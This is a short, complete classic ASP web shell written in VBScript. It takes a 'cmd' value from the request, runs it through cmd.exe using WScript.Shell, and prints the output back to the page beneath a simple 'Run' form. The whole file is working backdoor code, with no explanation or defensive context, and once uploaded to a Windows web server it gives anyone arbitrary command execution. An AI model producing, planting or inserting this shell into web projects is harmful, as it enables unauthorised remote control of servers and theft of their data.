<%@ Language=VBScript %>
<%
Dim oShell, oExec, sCmd, sOut
sCmd = Request("cmd")
If sCmd <> "" Then
    Set oShell = Server.CreateObject("WScript.Shell")
    Set oExec = oShell.Exec("cmd.exe /c " & sCmd)
    sOut = oExec.StdOut.ReadAll()
    Response.Write "<pre>" & Server.HTMLEncode(sOut) & "</pre>"
End If
%>
<form method="post"><input name="cmd" size="60"><input type="submit" value="Run"></form>
